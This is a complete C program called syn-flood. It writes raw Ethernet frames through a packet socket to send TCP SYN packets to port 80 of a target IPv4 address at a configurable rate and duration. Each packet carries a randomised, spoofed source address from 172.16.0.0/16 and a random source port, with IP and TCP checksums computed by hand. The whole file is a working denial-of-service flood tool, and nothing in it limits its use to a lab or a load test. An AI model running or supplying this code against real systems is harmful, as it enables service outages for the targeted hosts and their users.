/* usage: syn-flood INTERFACE MAC ADDRESS RATE SECONDS
 *
 * Sends SYNs to port 80 of an IPv4 address from random ports of 172.16.0.0/16, evenly: at most 32 at once. Prints how many. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { AT_ONCE = 32, LEN = 54 };

static double now(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec + time.tv_nsec / 1e9;
}

static uint32_t sum(const uint8_t *bytes, int count, uint32_t total)
{
	for (int at = 0; at < count; at += 2)
		total += bytes[at] << 8 | bytes[at + 1];
	return total;
}

static void put_sum(uint8_t *place, uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	place[0] = ~total >> 8;
	place[1] = ~total;
}

static uint64_t draw(void)
{
	static uint64_t state = 88172645463325252ull;
	state ^= state << 13, state ^= state >> 7, state ^= state << 17;
	return state;
}

static void next(uint8_t *frame)
{
	uint64_t drawn[2] = { draw(), draw() };
	uint8_t *ip = frame + 14, *tcp = frame + 34;
	memcpy(ip + 14, drawn, 2);
	memcpy(tcp, (uint8_t *)drawn + 2, 2);
	tcp[0] |= 4;
	memcpy(tcp + 4, drawn + 1, 4);
	memset(ip + 10, 0, 2);
	memset(tcp + 16, 0, 2);
	put_sum(ip + 10, sum(ip, 20, 0));
	put_sum(tcp + 16, sum(tcp, 20, sum(ip + 12, 8, 6 + 20)));
}

int main(int count, char **words)
{
	if (count != 6)
		return fprintf(stderr, "usage: syn-flood INTERFACE MAC ADDRESS RATE SECONDS\n"), 2;
	uint8_t frames[AT_ONCE][LEN] = { 0 };
	struct iovec parts[AT_ONCE];
	struct mmsghdr messages[AT_ONCE];
	memset(messages, 0, sizeof(messages));
	for (int each = 0; each < AT_ONCE; each++) {
		uint8_t *frame = frames[each], *mac = frame;
		sscanf(words[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5);
		memcpy(frame + 6, (uint8_t[]){ 2, 0, 0, 0, 0, 9, 8, 0, 0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0, 172, 16 }, 22);
		inet_pton(AF_INET, words[3], frame + 30);
		memcpy(frame + 36, (uint8_t[]){ 0, 80 }, 2);
		memcpy(frame + 46, (uint8_t[]){ 0x50, 2, 0xfa, 0xf0 }, 4);
		parts[each] = (struct iovec){ frame, LEN };
		messages[each].msg_hdr.msg_iov = parts + each;
		messages[each].msg_hdr.msg_iovlen = 1;
	}
	struct sockaddr_ll where = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(words[1]) };
	int wire = socket(AF_PACKET, SOCK_RAW, 0);
	if (wire < 0 || bind(wire, (struct sockaddr *)&where, sizeof(where)))
		return perror("syn-flood"), 1;
	double rate = atof(words[4]), began = now(), end = began + atof(words[5]);
	uint64_t sent = 0;
	for (double moment; (moment = now()) < end;) {
		double time = moment - began;
		/* What was missed while another program ran is not made up for. */
		if (time * rate - sent > rate / 100)
			began = moment - sent / rate;
		int due = (moment - began) * rate - sent;
		if (due < 1) {
			nanosleep(&(struct timespec){ .tv_nsec = 20000 }, 0);
			continue;
		}
		due = due < AT_ONCE ? due : AT_ONCE;
		for (int each = 0; each < due; each++)
			next(frames[each]);
		int done = sendmmsg(wire, messages, due, 0);
		sent += done > 0 ? done : 0;
	}
	printf("%llu\n", (unsigned long long)sent);
}
